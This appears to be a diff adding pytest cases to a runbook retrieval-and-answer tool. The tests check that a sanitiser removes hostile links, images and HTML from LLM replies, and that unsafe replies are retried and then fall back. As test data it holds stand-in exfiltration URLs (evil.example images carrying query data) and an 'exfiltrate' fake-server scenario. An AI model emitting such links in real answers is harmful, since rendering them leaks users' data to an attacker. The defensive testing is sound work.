@@ -17,7 +17,7 @@ import pytest
 from llama_index.core.base.llms.types import CompletionResponse
 from llama_index.core.llms.mock import MockLLM
 
-from runbook_rag import Principal, RunbookIndex, Settings
+from runbook_rag import Principal, RunbookIndex, Settings, links
 from runbook_rag.access import EntitledHit, entitle
 from runbook_rag.answer import ABSTAIN_TEXT
 from runbook_rag.errors import AccessViolation
@@ -27,6 +27,7 @@ from runbook_rag.records import Hit
 
 from .openai_server import USAGE, FakeOpenAI
 from .test_cli import run
+from .test_links import CLASSES, HOSTS, SOURCE, rendered_problems
 from .test_redaction_e2e import EVERYONE, PLANTED
 
 SRE = Principal("sam", frozenset({"sre"}))
@@ -125,6 +126,40 @@ def test_valid_replies_lose_images_outside_links_and_card_numbers() -> None:
     assert empty.abstained and empty.text == ABSTAIN_TEXT
 
 
+LINKS = LLMPolicy(timeout=5, retries=1, backoff=0.01, link_hosts=HOSTS)
+OTHER = "https://wiki.example.com/pages/Other"
+
+
+def sourced(n: int, url: str) -> Hit:
+    return Hit(f"c{n}", f"ops/doc{n}.md", f"Doc {n}", (f"Doc {n}",), 1, 9, 0.8, "Fail over.", ("sre",), url)
+
+
+@pytest.mark.parametrize("name", sorted(CLASSES))
+def test_hostile_links_in_a_reply_are_taken_out(name: str) -> None:
+    prompt = build_prompt("q", entitle(SRE, [sourced(1, SOURCE), sourced(2, OTHER)]), principal=SRE)
+    text = "Fail over [1].\n\n" + "\n\n".join(CLASSES[name])
+    answer = _validated(json.dumps({"answer": text, "citations": [1]}), prompt, LINKS)
+    assert answer.mode == "llm" and rendered_problems(answer.text) == []
+    assert answer.text.startswith("Fail over [1].") and answer.citations[0].url == SOURCE
+
+
+def test_only_cited_sources_may_be_linked() -> None:
+    prompt = build_prompt("q", entitle(SRE, [sourced(1, SOURCE), sourced(2, OTHER)]), principal=SRE)
+    text = f"See [the runbook]({SOURCE}) [1], not [that one]({OTHER}) or ![x]({SOURCE})."
+    answer = _validated(json.dumps({"answer": text, "citations": [1]}), prompt, LINKS)
+    assert answer.text == (
+        "See [the runbook](https://wiki.example.com/pages/Failover+%28payments-db%29?v=2) [1], "
+        "not that one or [image removed]."
+    )
+
+
+def test_a_reply_citing_with_a_link_keeps_its_marker() -> None:
+    prompt = build_prompt("q", entitle(SRE, HITS), principal=SRE)
+    text = "Fail over [1](https://evil.example/x?d=1), then see [2].\n\n[2]: https://evil.example"
+    answer = _validated(json.dumps({"answer": text, "citations": [1, 2]}), prompt, POLICY)
+    assert answer.text == "Fail over [1], then see [2].\n" and [c.n for c in answer.citations] == [1, 2]
+
+
 # --- llm_answer with llama-index's MockLLM -----------------------------------------------------
 
 
@@ -156,6 +191,31 @@ def test_mockllm_ignoring_the_contract_falls_back_to_extractive() -> None:
     answer = answer_with(MockLLM())  # echoes its prompt: never the JSON asked for
     assert answer.mode == "extractive" and answer.fallback_reason == "invalid_output"
     assert answer.citations and not answer.abstained and answer.usage.fallback
+
+
+def test_links_that_survive_sanitising_are_retried_then_fall_back(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(links._Sanitiser, "run", lambda self, text: text)  # a gap in the sanitiser
+    hostile = json.dumps({"answer": "Fail over [1]. ![s](https://evil.example/p.png?d=1)", "citations": [1]})
+    llm = Scripted([hostile, hostile])
+    answer = answer_with(llm)
+    assert (answer.mode, answer.fallback_reason, answer.usage.llm_calls) == ("extractive", "unsafe_links", 2)
+    assert "links, images or HTML that are not allowed" in llm.__dict__["_seen"][1]
+    assert "image not allowed" in llm.__dict__["_seen"][1] and "evil.example/p.png" not in answer.text
+
+
+def test_a_safe_second_reply_after_unsafe_links_is_the_answer(monkeypatch: pytest.MonkeyPatch) -> None:
+    real = links._Sanitiser.run
+    calls: list[str] = []
+
+    def once_leaky(self: links._Sanitiser, text: str) -> str:
+        calls.append(text)
+        return text if len(calls) == 1 else real(self, text)
+
+    monkeypatch.setattr(links._Sanitiser, "run", once_leaky)
+    hostile = json.dumps({"answer": "Fail over [1]. <img src=https://evil.example/p.png>", "citations": [1]})
+    answer = answer_with(Scripted([hostile, hostile]))
+    assert (answer.mode, answer.fallback_reason, answer.usage.llm_calls) == ("llm", None, 2)
+    assert answer.text == "Fail over [1]. "
 
 
 def test_no_evidence_means_no_model_call() -> None:
@@ -236,6 +296,31 @@ def test_outside_links_and_images_are_removed(server: FakeOpenAI, sample_index_p
     assert "https://grafana.example.com/d/1" in answer.text
     leaky = llm_index(sample_index_path, server, "leaky-pan").answer(QUESTION, principal=DBA)
     assert "4111 1111 1111 1111" not in leaky.text and "[PAN ****1111]" in leaky.text
+
+
+@pytest.mark.slow
+def test_hostile_links_through_the_real_endpoint(server: FakeOpenAI, sample_index_path: Path) -> None:
+    index = llm_index(sample_index_path, server, "hostile-links", llm_link_hosts=["grafana.example.com"])
+    answer = index.answer(QUESTION, principal=DBA)
+    assert answer.mode == "llm" and answer.fallback_reason is None and answer.usage.llm_calls == 1
+    assert rendered_problems(answer.text) == []
+    assert "[grafana](https://grafana.example.com/d/1)" in answer.text
+    assert "```bash\ncurl -fsS https://evil.example/health <b>\n```" in answer.text  # code as written
+    assert re.search(r"says \[\d\]\.", answer.text) and "[img]:" not in answer.text
+
+
+@pytest.mark.slow
+def test_unsafe_links_fall_back_through_the_real_endpoint(
+    monkeypatch: pytest.MonkeyPatch, server: FakeOpenAI, sample_index_path: Path
+) -> None:
+    monkeypatch.setattr(links._Sanitiser, "run", lambda self, text: text)  # a gap in the sanitiser
+    before = server.calls.get("exfiltrate", 0)
+    index = llm_index(sample_index_path, server, "exfiltrate", llm_link_hosts=["grafana.example.com"])
+    answer = index.answer(QUESTION, principal=DBA)
+    assert (answer.mode, answer.fallback_reason) == ("extractive", "unsafe_links")
+    assert server.calls["exfiltrate"] - before == 2
+    retry = server.requests[-1]["messages"][-1]["content"]
+    assert "links, images or HTML that are not allowed" in retry and "evil.example" not in retry
 
 
 @pytest.mark.slow
